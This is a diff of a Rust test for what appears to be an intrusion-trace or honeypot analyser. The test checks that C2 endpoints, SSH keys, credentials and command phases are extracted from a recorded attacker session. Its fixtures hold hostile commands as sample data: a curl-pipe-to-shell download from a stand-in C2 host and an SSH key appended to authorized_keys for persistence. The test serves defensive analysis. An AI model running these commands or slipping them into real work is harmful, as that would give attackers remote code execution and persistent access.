@@ -90,7 +90,7 @@ fn everything_an_address_showed_and_left_is_compared() {
             ran(1, "web-01", "curl http://C2.example/x | sh"),
             ran(2, "web-01", &format!("echo ssh-rsa {key} >> .ssh/authorized_keys")),
         ],
-        attempts: vec![tried(0, "toor", true)],
+        attempts: vec![tried(0, "found", true), tried(1, "guessed", false)],
         ..trace("2001:db8::211:22ff:fe33:4455")
     });
     let seen = known.observation;
@@ -105,7 +105,7 @@ fn everything_an_address_showed_and_left_is_compared() {
     assert_eq!(seen.c2_endpoints, ["c2.example"]);
     assert_eq!(seen.ssh_pubkey.len(), 1);
     assert_eq!(seen.ipv6_iid, ["021122fffe334455"]);
-    assert_eq!(seen.credentials, [("root".to_owned(), "toor".to_owned())]);
+    assert_eq!(seen.credentials, [("root".to_owned(), "guessed".to_owned())]);
     assert_eq!(
         seen.commands.keys().copied().collect::<Vec<_>>(),
         [Phase::Persistence, Phase::Execution]
